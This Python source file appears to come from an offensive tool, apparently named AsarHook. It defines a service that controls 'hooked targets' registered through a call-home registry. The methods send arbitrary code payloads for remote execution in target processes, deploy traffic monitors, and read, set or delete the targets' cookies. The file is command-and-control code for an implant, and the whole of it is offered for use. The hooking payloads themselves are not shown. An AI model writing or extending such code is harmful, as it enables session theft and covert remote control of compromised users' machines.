"""
Target Service - Remote Control of Hooked Targets

Resolves a registry uuid to its control agent address and drives the RCE
protocol: info, console submission, one-time result reads, traffic
monitor deployment and cookie access.
"""

import asyncio
import logging
from typing import Any, Dict, Optional

import aiohttp

from core.callhome_registry import AppRegistry
from core.exceptions import AsarHookError
from core.rce_client import RCEClient
from shared.constants import PortKind
from shared.settings import AsarHookSettings, get_settings

logger = logging.getLogger(__name__)

TRANSPORT_ERRORS = (AsarHookError, aiohttp.ClientError, asyncio.TimeoutError, ValueError)


def _failure(error: Exception) -> Dict[str, Any]:
    message = str(error) or type(error).__name__
    return {"success": False, "error": message}


class TargetService:
    """RCE operations addressed by target uuid"""

    def __init__(self, registry: AppRegistry, settings: Optional[AsarHookSettings] = None):
        self.registry = registry
        self.settings = settings or get_settings()

    def client_for(self, uuid: str) -> RCEClient:
        record = self.registry.get(uuid)
        if record is None:
            raise AsarHookError(f"Unknown target: {uuid}")
        if record.port is None:
            raise AsarHookError(f"Target {uuid} has not reported a control port")
        return RCEClient(
            record.ip or "127.0.0.1",
            record.port,
            poll_attempts=self.settings.POLL_ATTEMPTS,
            poll_delay_s=self.settings.POLL_DELAY_S,
        )

    async def info(self, uuid: str) -> Dict[str, Any]:
        try:
            async with self.client_for(uuid) as client:
                info = await client.get_info()
        except TRANSPORT_ERRORS as e:
            return _failure(e)
        return {"success": True, "info": info, "online": self.registry.is_online(uuid)}

    async def send_payload(self, uuid: str, code: str, process: str = "main") -> Dict[str, Any]:
        try:
            async with self.client_for(uuid) as client:
                job = await client.send_payload(code, process)
        except TRANSPORT_ERRORS as e:
            return _failure(e)
        return {"success": True, **job}

    async def get_payload_status(self, uuid: str, job_id: str) -> Dict[str, Any]:
        try:
            async with self.client_for(uuid) as client:
                job = await client.get_payload_status(job_id)
        except TRANSPORT_ERRORS as e:
            return _failure(e)
        return {"success": True, **job}

    async def execute(self, uuid: str, code: str, process: str = "main") -> Dict[str, Any]:
        try:
            async with self.client_for(uuid) as client:
                job = await client.execute(code, process)
        except TRANSPORT_ERRORS as e:
            return _failure(e)
        return {"success": job.get("status") == "completed", **job}

    async def deploy_monitor(self, uuid: str, flavor: str = "electron", port: Optional[int] = None) -> Dict[str, Any]:
        record = self.registry.get(uuid)
        if record is None:
            return _failure(AsarHookError(f"Unknown target: {uuid}"))
        if port is not None:
            record.monitor_port = port
        monitor_port = self.registry.assign_port(uuid, PortKind.MONITOR, self.settings.MONITOR_PORT_BASE)
        try:
            async with self.client_for(uuid) as client:
                job = await client.deploy_traffic_monitor(monitor_port, self.settings.AGENT_HOST, flavor)
        except TRANSPORT_ERRORS as e:
            return _failure(e)
        return {
            "success": job.get("status") == "completed",
            "port": monitor_port,
            "url": f"ws://{record.ip or '127.0.0.1'}:{monitor_port}",
            "job": job,
        }

    async def monitor_control(self, uuid: str, action: str, flavor: str = "electron") -> Dict[str, Any]:
        try:
            async with self.client_for(uuid) as client:
                job = await client.monitor_control(action, flavor)
        except TRANSPORT_ERRORS as e:
            return _failure(e)
        return {"success": job.get("status") == "completed", "action": action, "job": job}

    async def get_cookies(self, uuid: str) -> Dict[str, Any]:
        try:
            async with self.client_for(uuid) as client:
                cookies = await client.get_cookies()
        except TRANSPORT_ERRORS as e:
            return _failure(e)
        return {"success": True, "cookies": cookies}

    async def set_cookie(self, uuid: str, cookie: Dict[str, Any]) -> Dict[str, Any]:
        try:
            async with self.client_for(uuid) as client:
                await client.set_cookie(cookie)
        except TRANSPORT_ERRORS as e:
            return _failure(e)
        return {"success": True}

    async def remove_cookie(self, uuid: str, url: str, name: str) -> Dict[str, Any]:
        try:
            async with self.client_for(uuid) as client:
                await client.remove_cookie(url, name)
        except TRANSPORT_ERRORS as e:
            return _failure(e)
        return {"success": True}
